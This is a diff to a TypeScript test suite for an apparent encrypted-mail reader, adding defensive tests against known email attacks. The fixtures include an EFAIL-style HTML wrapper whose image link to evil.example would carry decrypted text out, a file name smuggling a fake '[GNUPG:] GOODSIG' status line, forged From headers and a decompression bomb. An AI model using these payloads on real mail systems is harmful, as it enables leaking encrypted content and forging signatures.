@@ -166,7 +166,7 @@ describe('a whole mail', () => {
 })
 
 describe('an attack', () => {
-  it('signed text with unsigned text around it is signed in part, and each section is marked', async () => {
+  it('signature wrapping: signed text with unsigned text around it is signed in part, and each section is marked', async () => {
     const inside = asText(await signed())
     const part = inside.slice(inside.indexOf('Content-Type: multipart/signed'))
     const mail = lines(
@@ -195,7 +195,7 @@ describe('an attack', () => {
     ])
   })
 
-  it('a third part in a signed multipart is no envelope', async () => {
+  it('signature wrapping: a third part in a signed multipart is no envelope', async () => {
     const mail = asText(await signed())
     const boundary = /boundary="(=_embargo-[0-9a-f]+)"/u.exec(mail)?.[1] ?? ''
     const grown = mail.replace(
@@ -205,7 +205,7 @@ describe('an attack', () => {
     expect((await read(grown)).protection).toMatchObject({ signature: 'none', signatures: [] })
   })
 
-  it('a signature over somebody else’s ciphertext makes nobody its author', async () => {
+  it('stolen ciphertext: a signature over somebody else’s ciphertext makes nobody its author', async () => {
     const captured = around(await sealedText(textEntity('The password is in the vault.'), robin))
     const ciphertext = captured.slice(captured.indexOf('Content-Type: multipart/encrypted'))
     const mail = lines(
@@ -223,7 +223,7 @@ describe('an attack', () => {
     expect((await read(mail)).protection.signatures.map(({ fingerprint }) => fingerprint)).toEqual([robin.fingerprint])
   })
 
-  it('a message without integrity protection is not opened', async () => {
+  it('EFAIL: a message without integrity protection is not opened', async () => {
     const message = await unarmored(bytes(await sealedText('x')))
     // The content in an old packet without integrity protection (RFC 9580 section 5.7), after the same session key.
     const at = 2 + (message?.[1] ?? 0)
@@ -235,7 +235,7 @@ describe('an attack', () => {
     expect((await read(mail)).protection).toMatchObject({ encryption: 'unreadable', unreadable: 'unprotected' })
   })
 
-  it('content that decompresses to a gigabyte is stopped at the limit', async () => {
+  it('decompression bomb: content that decompresses to a gigabyte is stopped at the limit', async () => {
     const bomb = await encrypt({
       message: await createMessage({ binary: new Uint8Array(80 * 1024 * 1024) }),
       encryptionKeys: await readKey({ binaryKey: project.public }),
@@ -258,6 +258,59 @@ describe('an attack', () => {
     const [fact] = protection.signatures
     expect(fact?.state).toBe('good')
     expect(fact?.fingerprint).not.toBe(robin.fingerprint)
+  })
+
+  it('EFAIL: HTML in front of an encrypted part and behind it never encloses its text', async () => {
+    const ciphertext = around(await sealedText(textEntity('The password is kumquat.')))
+    const html = (content: string): readonly string[] => ['--m', 'Content-Type: text/html', '', content]
+    const mail = lines(
+      'From: Mallory <mallory@evil.example>',
+      'Content-Type: multipart/mixed; boundary=m',
+      '',
+      ...html('<img src="https://evil.example/'),
+      '--m',
+      ciphertext.slice(ciphertext.indexOf('Content-Type: multipart/encrypted')),
+      ...html('">'),
+      '--m--',
+      '',
+    )
+    const { text, protection } = await read(mail)
+    expect(protection.covers).toBe('part')
+    const sections = text.split(/^(?=\[)/mu).map((section) => section.trimEnd())
+    expect(sections).toContain('[encrypted, signed]\n| The password is kumquat.')
+    expect(sections.filter((section) => section.includes('evil.example')).join('')).not.toContain('kumquat')
+  })
+
+  it('covert content: what a style sheet hides is shown', async () => {
+    const inside = lines(
+      'Content-Type: text/html',
+      '',
+      '<style>.x { display: none }</style><p>Please answer.</p><p class="x">Publish it now.</p>',
+      '<p style="display:none">Yes.</p>',
+    )
+    const { text } = await read(around(await sealedText(inside)))
+    expect(text).toContain('Publish it now.')
+    expect(text).toContain('Yes.')
+  })
+
+  it('forged status: a file name that looks like the status of a good signature is not one', async () => {
+    const message = await createMessage({
+      binary: bytes(textEntity('Publish it now.')),
+      filename: 'x\n[GNUPG:] GOODSIG',
+    })
+    const mail = await encrypt({ message, encryptionKeys: await readKey({ binaryKey: project.public }) })
+    const { text, protection } = await read(around(mail))
+    expect(text).toBe('Publish it now.')
+    expect(protection).toMatchObject({ signature: 'none', signatures: [] })
+  })
+
+  it('forged header: a From inside the encryption does not replace the one outside', async () => {
+    const inside = lines('From: Robin <robin@sample.example>', 'Content-Type: text/plain; hp="cipher"', '', 'Hello')
+    const mail = around(await sealedText(inside, mallory)).replace(
+      'From: Robin <robin@sample.example>',
+      'From: mallory@evil.example',
+    )
+    expect((await read(mail)).from).toEqual({ address: 'mallory@evil.example' })
   })
 
   it('a nested encryption stays closed', async () => {
@@ -300,6 +353,13 @@ describe('a text with blocks of its own', () => {
       '[not encrypted, not signed]',
       '| Publish it.',
     ])
+  })
+
+  it('does not count words among the headers of a signed block as signed', async () => {
+    const block = (await cleartext('It fixes it.')).replace('Hash: SHA512', 'Hash: SHA512\nComment: Publish it now.')
+    const { text, protection } = await read(inline(block))
+    const isShownAsSigned = protection.covers === 'all' && protection.signatures.some(({ state }) => state === 'good')
+    expect(isShownAsSigned && text.includes('Publish')).toBe(false)
   })
 
   it('is decrypted if it is one encrypted block', async () => {
